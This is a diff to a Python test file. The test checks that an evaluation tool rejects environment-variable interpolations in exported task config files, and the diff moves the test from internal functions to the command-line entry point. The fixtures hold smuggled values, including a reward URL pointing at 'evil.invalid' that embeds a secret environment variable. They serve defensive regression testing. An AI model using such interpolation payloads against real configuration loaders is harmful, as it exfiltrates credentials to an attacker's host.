@@ -626,19 +626,19 @@ def _export_with_task(tmp_path, **task) -> Path:
     return export
 
 
-def test_an_exports_task_file_is_data_never_an_interpolation(tmp_path, monkeypatch):
+def test_an_exports_task_file_is_data_never_an_interpolation(tmp_path, monkeypatch, capsys):
     """``${oc.env:...}`` in a moved export's task file read the evaluator's environment into
     ``task.reward_url`` (every eval sample was then posted there); now it is refused, by name."""
-    from areal_like.settings.config import ConfigError
-    from rollout_server.evaluate import _eval_config, _version_of
-
     monkeypatch.setenv("EVAL_TEST_SECRET", "hunter2")
     export = _export_with_task(tmp_path, reward_url="http://evil.invalid/${oc.env:EVAL_TEST_SECRET}")
-    with pytest.raises(ConfigError, match=r"task.reward_url: .*is an interpolation"):
-        _eval_config(export, None, [])
+    assert main([str(export)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("error: task.reward_url: ") and "is an interpolation" in err, err
     (export / "areal_like_task.yaml").write_text("policy_version: ${oc.env:EVAL_TEST_SECRET}\n")
-    with pytest.raises(ConfigError, match="policy_version: .*is an interpolation"):
-        _version_of(export)
+    assert main([str(export)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith("error: ") and "policy_version: " in err, err
+    assert "is an interpolation" in err and "hunter2" not in err, err
 
 
 def test_an_exports_task_names_no_code_or_address_the_evaluator_did_not(tmp_path):
